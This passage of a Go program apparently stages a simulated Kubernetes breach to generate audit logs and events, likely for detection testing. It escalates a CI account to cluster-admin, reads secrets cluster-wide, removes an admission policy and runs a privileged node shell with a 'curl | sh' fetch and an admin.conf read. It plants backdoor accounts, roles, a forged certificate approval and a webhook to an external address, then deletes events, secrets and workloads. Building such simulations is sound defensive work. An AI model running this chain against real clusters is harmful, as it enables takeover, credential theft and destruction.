		if _, err := at.CoreV1().Secrets(s.nsOf(sec.where)).Get(ctx, sec.name, metav1.GetOptions{}); err != nil {
			return err
		}
	}
	if _, err := at.CoreV1().ConfigMaps(s.payments).Get(ctx, "payments-config", metav1.GetOptions{}); err != nil {
		return err
	}
	return nil
}

// ---------------------------------------------------------------- phase E

func (s *scenario) phaseEscalate(ctx context.Context) error {
	at := s.attacker.cs
	s.step("E1 cluster-admin for the CI service account")
	if _, err := at.RbacV1().ClusterRoles().Get(ctx, "cluster-admin", metav1.GetOptions{}); err != nil {
		return err
	}
	_, err := at.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "helm-release-admin-" + s.sfx},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Name: "ci-deployer", Namespace: s.shop}},
	}, opts())
	if err != nil {
		return err
	}
	time.Sleep(time.Second) // RBAC caches catch up

	s.step("E2 secrets everywhere")
	if _, err := at.CoreV1().Secrets("").List(ctx, metav1.ListOptions{Limit: 500}); err != nil {
		return err
	}
	if _, err := at.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{}); err != nil {
		return err
	}
	if _, err := at.CoreV1().Namespaces().List(ctx, metav1.ListOptions{}); err != nil {
		return err
	}
	if _, err := at.CoreV1().Nodes().List(ctx, metav1.ListOptions{}); err != nil {
		return err
	}

	s.step("E3 impersonating the controller manager")
	if _, err := s.impersonator.cs.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{}); err != nil && !apierrors.IsForbidden(err) {
		return err
	}
	if _, err := s.impersonator.cs.CoreV1().ServiceAccounts("kube-system").List(ctx, metav1.ListOptions{}); err != nil && !apierrors.IsForbidden(err) {
		return err
	}
	return s.bumpPodEvents(ctx, 2)
}

// ---------------------------------------------------------------- phase F

func (s *scenario) phaseExecute(ctx context.Context) error {
	at := s.attacker.cs
	s.step("F1 a privileged debug Deployment in payments")
	dbg := deployment(s.payments, app{name: "payments-api-debug", image: "ghcr.io/acme-pay/payments-api:4.7.0", replicas: 1, port: 8443, mem: "256Mi"})
	dbg.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
	d, err := at.AppsV1().Deployments(s.payments).Create(ctx, dbg, opts())
	if err != nil {
		return err
	}
	hash := templateHash(d.Spec.Template)
	rs, err := s.deployCtl.cs.AppsV1().ReplicaSets(s.payments).Create(ctx, &appsv1.ReplicaSet{
		ObjectMeta: metav1.ObjectMeta{Name: d.Name + "-" + hash, Namespace: d.Namespace, Labels: d.Spec.Template.Labels,
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "Deployment", Name: d.Name, UID: d.UID, Controller: ptr.To(true), BlockOwnerDeletion: ptr.To(true)}}},
		Spec: appsv1.ReplicaSetSpec{Replicas: ptr.To(int32(1)), Selector: d.Spec.Selector, Template: d.Spec.Template},
	}, metav1.CreateOptions{})
	if err != nil {
		return err
	}
	denied, err := s.scaleRS(ctx, rs, 1, false)
	if err != nil {
		return err
	}
	if denied == nil {
		return fmt.Errorf("the admission policy did not deny the privileged pod of %s", rs.Name)
	}
	if _, err := s.ev.emit(ctx, &eventsv1.Event{
		ObjectMeta:          metav1.ObjectMeta{Namespace: s.payments},
		Regarding:           corev1.ObjectReference{Kind: "ReplicaSet", APIVersion: "apps/v1", Namespace: s.payments, Name: rs.Name, UID: rs.UID},
		ReportingController: "replicaset-controller", ReportingInstance: "kube-controller-manager",
		Reason: "FailedCreate", Action: "Create", Type: corev1.EventTypeWarning,
		Note: "Error creating: " + denied.Error(),
	}); err != nil {
		return err
	}

	s.step("F2 the admission policy goes")
	if _, err := at.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().List(ctx, metav1.ListOptions{}); err != nil {
		return err
	}
	if err := at.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, "restrict-privileged-pods-"+s.sfx, metav1.DeleteOptions{}); err != nil {
		return err
	}
	if err := at.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "restrict-privileged-pods-"+s.sfx, metav1.DeleteOptions{}); err != nil {
		return err
	}
	time.Sleep(1500 * time.Millisecond) // the policy informer catches up
	// The debug Deployment is left to fail; the attacker goes for a node shell.
	if err := at.AppsV1().Deployments(s.payments).Delete(ctx, d.Name, metav1.DeleteOptions{}); err != nil {
		return err
	}

	s.step("F3 node shell")
	node := s.nodes[0]
	shell, err := at.CoreV1().Pods(s.payments).Create(ctx, nodeShell(s.payments, "payments-api-debug", node, "198.51.100.23:5000/tools/nsenter:latest"), opts())
	if err != nil {
		return err
	}
	s.extra["shell"] = shell.Name

	s.step("F4 exec into the node shell")
	for _, cmd := range [][]string{{"id"}, {"cat", "/host/etc/kubernetes/admin.conf"}, {"sh", "-c", "curl -s 198.51.100.23/x | sh"}} {
		if _, err := s.attacker.upgrade(ctx, "POST", execPath(s.payments, shell.Name, "shell", cmd...), false); err != nil {
			return err
		}
	}
	if _, err := s.ev.emit(ctx, nodeEvent(node, "kernel-monitor", "OOMKilling", "OOMKilling", corev1.EventTypeWarning,
		"Memory cgroup out of memory: Killed process 23817 (xmrig) total-vm:2480164kB, anon-rss:1938224kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:4120kB oom_score_adj:-997")); err != nil {
		return err
	}
	if _, err := s.ev.emit(ctx, nodeEvent(node, "kubelet", "SystemOOM", "SystemOOM", corev1.EventTypeWarning,
		"System OOM encountered, victim process: xmrig, pid: 23817")); err != nil {
		return err
	}

	s.step("F5 kubectl debug into payments-api")
	api := s.podsOf("payments", "payments-api")[0]
	patch := `{"spec":{"ephemeralContainers":[{"name":"debugger-x7k2p","image":"busybox","command":["sh"],"stdin":true,"tty":true,"targetContainerName":"payments-api","securityContext":{"privileged":true}}]}}`
	if _, err := at.CoreV1().Pods(s.payments).Patch(ctx, api.name, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}, "ephemeralcontainers"); err != nil {
		return err
	}
	if _, err := s.attacker.upgrade(ctx, "POST", fmt.Sprintf("/api/v1/namespaces/%s/pods/%s/attach?container=debugger-x7k2p&stdin=true&stdout=true&tty=true", s.payments, api.name), false); err != nil {
		return err
	}

	s.step("F6 port-forward to payments-api")
	if _, err := s.attacker.upgrade(ctx, "POST", fmt.Sprintf("/api/v1/namespaces/%s/pods/%s/portforward?ports=8443", s.payments, api.name), false); err != nil {
		return err
	}

	s.step("F7 the kubelet API through nodes/proxy")
	if _, err := s.attacker.raw(ctx, "GET", "/api/v1/nodes/"+node+"/proxy/configz", nil); err != nil {
		return err
	}
	if _, err := s.attacker.raw(ctx, "GET", "/api/v1/nodes/"+node+"/proxy/pods", nil); err != nil {
		return err
	}
	if _, err := s.attacker.raw(ctx, "POST", fmt.Sprintf("/api/v1/nodes/%s/proxy/run/%s/%s/payments-api?cmd=%s", node, s.payments, api.name, url.QueryEscape("cat /var/run/secrets/app/password")), nil); err != nil {
		return err
	}

	s.step("F8 exposing the node shell")
	np := service(s.payments, "payments-debug", 4444, corev1.ServiceTypeNodePort)
	np.Spec.Selector = map[string]string{"debug": "true"}
	np.Spec.Ports = []corev1.ServicePort{{Name: "shell", Port: 4444, NodePort: 0}}
	if _, err := at.CoreV1().Services(s.payments).Create(ctx, np, opts()); err != nil {
		return err
	}
	ext := service(s.payments, "payments-gateway", 8443, corev1.ServiceTypeClusterIP)
	ext.Spec.ExternalIPs = []string{"198.51.100.23"}
	if _, err := at.CoreV1().Services(s.payments).Create(ctx, ext, opts()); err != nil {
		return err
	}
	return s.bumpPodEvents(ctx, 2)
}

// ---------------------------------------------------------------- phase G

func (s *scenario) phasePersist(ctx context.Context) error {
	at := s.attacker.cs
	s.step("G1 backdoor service account")
	if _, err := at.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "metrics-relay"}}, opts()); err != nil {
		return err
	}
	s.step("G2 its token")
	tok, err := s.token(ctx, s.attacker, "kube-system", "metrics-relay", 86400)
	if err != nil {
		return err
	}
	s.backdoorToken = tok
	if s.backdoor, err = s.newActor(actorSpec{name: "backdoor", token: tok, ip: ipAttacker2, userAgent: uaRelay, tracked: true}); err != nil {
		return err
	}

	s.step("G3 a system-looking ClusterRole")
	role := "system:node-metrics-relay-" + s.sfx
	if _, err := at.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: role}, Rules: []rbacv1.PolicyRule{
		{APIGroups: []string{""}, Resources: []string{"nodes/proxy", "nodes/metrics"}, Verbs: []string{"get", "create"}},
		{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch"}},
		{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create"}},
	}}, opts()); err != nil {
		return err
	}
	s.step("G4 cluster-admin for the backdoor")
	if _, err := at.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "system:metrics-relay-" + s.sfx},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Name: "metrics-relay", Namespace: "kube-system"}},
	}, opts()); err != nil {
		return err
	}
	s.step("G5 widening the role")
	if _, err := at.RbacV1().ClusterRoles().Patch(ctx, role, types.JSONPatchType,
		[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`), metav1.PatchOptions{}); err != nil {
		return err
	}

	s.step("G6 relay DaemonSet in kube-system")
	img := "198.51.100.23:5000/ops/relay:v2"
	ds, err := at.AppsV1().DaemonSets("kube-system").Create(ctx, relayDaemonSet(img), opts())
	if err != nil {
		return err
	}
	var dsPods []podRef
	for i, n := range s.nodes {
		p := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{GenerateName: ds.Name + "-", Namespace: "kube-system", Labels: ds.Spec.Template.Labels,
				OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "DaemonSet", Name: ds.Name, UID: ds.UID, Controller: ptr.To(true), BlockOwnerDeletion: ptr.To(true)}}},
			Spec: *ds.Spec.Template.Spec.DeepCopy(),
		}
		p.Spec.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{RequiredDuringSchedulingIgnoredDuringExecution: &corev1.NodeSelector{
			NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchFields: []corev1.NodeSelectorRequirement{{Key: "metadata.name", Operator: corev1.NodeSelectorOpIn, Values: []string{n}}}}}}}}
		created, err := s.dsCtl.cs.CoreV1().Pods("kube-system").Create(ctx, p, metav1.CreateOptions{})
		if err != nil {
			return fmt.Errorf("daemon-set-controller: %w", err)
		}
		if err := s.bindPod(ctx, created, n); err != nil {
			return err
		}
		ref := podRef{ns: "kube-system", name: created.Name, uid: string(created.UID), node: n, owner: ds.Name}
		dsPods = append(dsPods, ref)
		if i == 0 {
			continue // the first node had the image cached
		}
		e, err := s.ev.emit(ctx, podEvent(ref, "kubelet", n, "Failed", "Pulling", corev1.EventTypeWarning,
			fmt.Sprintf("Failed to pull image %q: failed to resolve reference %q: failed to do request: Head \"https://198.51.100.23:5000/v2/ops/relay/manifests/v2\": dial tcp 198.51.100.23:5000: i/o timeout", img, img), "spec.containers{relay}"))
		if err != nil {
			return err
		}
		s.extra["pullfail:"+created.Name] = e.Name
	}
	s.extra["dspod"] = dsPods[0].name
	s.mu.Lock()
	s.pods["kube-system/"+ds.Name] = dsPods
	s.mu.Unlock()

	s.step("G7 CronJob in kube-system")
	if _, err := at.BatchV1().CronJobs("kube-system").Create(ctx, defragCronJob(), opts()); err != nil {
		return err
	}
	s.step("G8 Deployment in kube-system")
	ca := deployment("kube-system", app{name: "coredns-autoscaler", image: "ghcr.io/kube-tools/cluster-proportional-autoscaler:1.9.0", replicas: 1, port: 8080, mem: "64Mi"})
	ca.Spec.Template.Spec.ServiceAccountName = "metrics-relay"
	cad, err := at.AppsV1().Deployments("kube-system").Create(ctx, ca, opts())
	if err != nil {
		return err
	}
	if _, err := s.reconcileDeployment(ctx, cad, true); err != nil {
		return err
	}

	s.step("G9 exec into the relay")
	if _, err := s.backdoor.upgrade(ctx, "POST", execPath("kube-system", dsPods[0].name, "relay", "sh", "-c", "cat /rootfs/var/lib/kubelet/kubeconfig"), false); err != nil {
		return err
	}
	if _, err := s.attacker.upgrade(ctx, "POST", execPath("kube-system", dsPods[0].name, "relay", "id"), false); err != nil {
		return err
	}

	s.step("G10 a client certificate for kubeadm:cluster-admins")
	csrPEM, err := makeCSR("cluster-ops-backup", []string{"kubeadm:cluster-admins"})
	if err != nil {
		return err
	}
	csrName := "metrics-relay-client-" + s.sfx
	csr, err := at.CertificatesV1().CertificateSigningRequests().Create(ctx, &certv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{Name: csrName},
		Spec: certv1.CertificateSigningRequestSpec{Request: csrPEM, SignerName: certv1.KubeAPIServerClientSignerName,
			ExpirationSeconds: ptr.To(int32(31536000)), Usages: []certv1.KeyUsage{certv1.UsageClientAuth, certv1.UsageDigitalSignature}},
	}, opts())
	if err != nil {
		return err
	}
	csr.Status.Conditions = append(csr.Status.Conditions, certv1.CertificateSigningRequestCondition{
		Type: certv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "KubectlApprove", Message: "This CSR was approved by kubectl certificate approve.",
	})
	if _, err := at.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csrName, csr, metav1.UpdateOptions{}); err != nil {
		return err
	}

	s.step("G11 anonymous read access to payments")
	if _, err := at.RbacV1().Roles(s.payments).Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "status-reader"}, Rules: []rbacv1.PolicyRule{
		{APIGroups: []string{""}, Resources: []string{"pods", "secrets"}, Verbs: []string{"get", "list"}},
	}}, opts()); err != nil {
		return err
	}
	if _, err := at.RbacV1().RoleBindings(s.payments).Create(ctx, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "status-reader"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: "status-reader"},
		Subjects:   []rbacv1.Subject{{Kind: "User", APIGroup: "rbac.authorization.k8s.io", Name: "system:anonymous"}},
	}, opts()); err != nil {
		return err
	}
	time.Sleep(time.Second)
	for _, p := range []string{"/api/v1/namespaces/" + s.payments + "/secrets", "/api/v1/namespaces/" + s.payments + "/secrets/stripe-api"} {
		code, err := s.anon.raw(ctx, "GET", p, nil)
		if err != nil {
			return err
		}
		if code != 200 {
			return fmt.Errorf("anonymous GET %s: want 200 after the binding, got %d", p, code)
		}
	}

	s.step("G12 mutating webhook")
	// Scoped to this run's namespaces, failurePolicy Ignore, 1 s timeout: the
	// ground is shared, and nothing creates pods there after this step.
	mwc := &admissionv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "pod-metrics-injector-" + s.sfx},
		Webhooks: []admissionv1.MutatingWebhook{{
			Name:                    "inject.metrics-relay.io",
			ClientConfig:            admissionv1.WebhookClientConfig{URL: ptr.To("https://198.51.100.23:8443/inject")},
			Rules:                   []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{admissionv1.Create}, Rule: admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}},
			FailurePolicy:           ptr.To(admissionv1.Ignore),
			SideEffects:             ptr.To(admissionv1.SideEffectClassNone),
			AdmissionReviewVersions: []string{"v1"},
			TimeoutSeconds:          ptr.To(int32(1)),
			NamespaceSelector: &metav1.LabelSelector{MatchExpressions: []metav1.LabelSelectorRequirement{{
				Key: "kubernetes.io/metadata.name", Operator: metav1.LabelSelectorOpIn, Values: []string{s.shop, s.payments}}}},
		}},
	}
	if _, err := at.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mwc, opts()); err != nil {
		return err
	}
	for _, p := range dsPods[1:] {
		if err := s.ev.bump(ctx, "kube-system", s.extra["pullfail:"+p.name], 2); err != nil {
			return err
		}
	}
	return s.bumpPodEvents(ctx, 2)
}

func makeCSR(cn string, orgs []string) ([]byte, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: orgs}}, key)
	if err != nil {
		return nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), nil
}

// ---------------------------------------------------------------- phase H

func (s *scenario) phaseImpact(ctx context.Context) error {
	at := s.attacker.cs
	s.step("H0 blinding the compliance scanner")
	for _, ns := range []string{s.shop, s.payments} {
		if err := at.RbacV1().RoleBindings(ns).Delete(ctx, "compliance-auditor", metav1.DeleteOptions{}); err != nil {
			return err
		}
	}
	if err := at.RbacV1().ClusterRoles().Delete(ctx, "compliance-reader-"+s.sfx, metav1.DeleteOptions{}); err != nil {
		return err
	}
	// Deleting the account also invalidates its bound tokens: the scanner's
	// next requests are 401s.
	if err := at.CoreV1().ServiceAccounts(s.ops).Delete(ctx, "compliance-auditor", metav1.DeleteOptions{}); err != nil {
		return err
	}
	s.step("H1 covering tracks: the payments Events")
	if err := at.CoreV1().Events(s.payments).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}); err != nil {
		return err
	}
	s.extra["eventsDeleted"] = "yes"
	s.step("H2 deleting the Secrets")
	for _, sec := range scenarioSecrets {
		if err := at.CoreV1().Secrets(s.nsOf(sec.where)).Delete(ctx, sec.name, metav1.DeleteOptions{}); err != nil {
			return err
		}
	}
	s.step("H3 payments-api loses its credentials")
	for _, p := range s.podsOf("payments", "payments-api") {
		if _, err := s.ev.emit(ctx, podEvent(p, "kubelet", p.node, "FailedMount", "Mounting", corev1.EventTypeWarning,
			`MountVolume.SetUp failed for volume "credentials" : secret "payments-db" not found`, "")); err != nil {
			return err
		}
	}
	s.step("H4 wiping the workloads")
	for _, where := range []string{"payments", "shop"} {
		ns := s.nsOf(where)
		for _, ap := range apps {
			if ap.where != where {
				continue
			}
			if err := at.AppsV1().Deployments(ns).Delete(ctx, ap.name, metav1.DeleteOptions{}); err != nil {
				return err
			}
			if err := at.CoreV1().Services(ns).Delete(ctx, ap.name, metav1.DeleteOptions{}); err != nil {
				return err
			}
		}
		cms, err := at.CoreV1().ConfigMaps(ns).List(ctx, metav1.ListOptions{})
		if err != nil {
			return err
		}
		for _, cm := range cms.Items {
			if err := at.CoreV1().ConfigMaps(ns).Delete(ctx, cm.Name, metav1.DeleteOptions{}); err != nil {
				return err
			}
		}
		pods, err := at.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{})
		if err != nil {
			return err
		}
		for _, p := range pods.Items {
			if err := at.CoreV1().Pods(ns).Delete(ctx, p.Name, metav1.DeleteOptions{}); err != nil && !apierrors.IsNotFound(err) {
				return err
			}
		}
	}
	// The first node, where the miner ran, goes NotReady and reboots.
	n := s.nodes[0]
	if _, err := s.ev.emit(ctx, nodeEvent(n, "node-controller", "NodeNotReady", "NodeNotReady", corev1.EventTypeNormal, "Node "+n+" status is now: NodeNotReady")); err != nil {
		return err
	}
	if _, err := s.ev.emit(ctx, nodeEvent(n, "kubelet", "Rebooted", "Rebooted", corev1.EventTypeWarning, "Node "+n+" has been rebooted, boot id: 6b1c2f7e-3a9d-4d1e-9f0a-2c5e8b7d4a11")); err != nil {
		return err
	}
	s.step("H5 the payments namespace")
	return at.CoreV1().Namespaces().Delete(ctx, s.payments, metav1.DeleteOptions{})
}

// ---------------------------------------------------------------- events

func podEvent(p podRef, controller, instance, reason, action, typ, note, fieldPath string) *eventsv1.Event {
	if instance == "" {
		instance = controller
	}
	if strings.Contains(note, "%s") {
		note = fmt.Sprintf(note, p.name)
	}
	return &eventsv1.Event{
		ObjectMeta:          metav1.ObjectMeta{Namespace: p.ns},
		Regarding:           corev1.ObjectReference{Kind: "Pod", APIVersion: "v1", Namespace: p.ns, Name: p.name, UID: types.UID(p.uid), FieldPath: fieldPath},
		ReportingController: controller, ReportingInstance: instance,
		Reason: reason, Action: action, Type: typ, Note: note,
	}
}

func nodeEvent(node, controller, reason, action, typ, note string) *eventsv1.Event {
	return &eventsv1.Event{
		ObjectMeta:          metav1.ObjectMeta{Namespace: "default"},
		Regarding:           corev1.ObjectReference{Kind: "Node", APIVersion: "v1", Name: node, UID: types.UID(node)},
		ReportingController: controller, ReportingInstance: node,
		Reason: reason, Action: action, Type: typ, Note: note,
	}
}

// emitPodEvent reports an Event about the i-th pod of an app and remembers
// it for later series bumps.
func (s *scenario) emitPodEvent(ctx context.Context, where, appName string, i int, controller, instance, reason, action, typ, note, fieldPath string) error {
	pods := s.podsOf(where, appName)
	if len(pods) <= i {
		return fmt.Errorf("no pod %d of %s", i, appName)
	}
	p := pods[i]
	if instance == "" && p.node != "" && controller == "kubelet" {
		instance = p.node
	}
	ev, err := s.ev.emit(ctx, podEvent(p, controller, instance, reason, action, typ, note, fieldPath))
	if err != nil {
		return err
	}
	s.mu.Lock()
	s.extra["recurring"] += ev.Namespace + "/" + ev.Name + " "
	s.mu.Unlock()
	return nil
}

// bumpPodEvents bumps every recurring Event (crash loop, probe, scheduling)
// by n occurrences; the probe fails twice as often.
func (s *scenario) bumpPodEvents(ctx context.Context, n int32) error {
	s.mu.Lock()
	list := strings.Fields(s.extra["recurring"])
	s.mu.Unlock()
	for _, k := range list {
		ns, name, _ := strings.Cut(k, "/")
		if ns == s.payments && s.extra["eventsDeleted"] != "" {
			continue
		}
		m := n
		if strings.HasPrefix(name, "catalog-") {
			m = 2*n + 1
		}
		if err := s.ev.bump(ctx, ns, name, m); err != nil {
			return err
		}
	}
	return nil
}
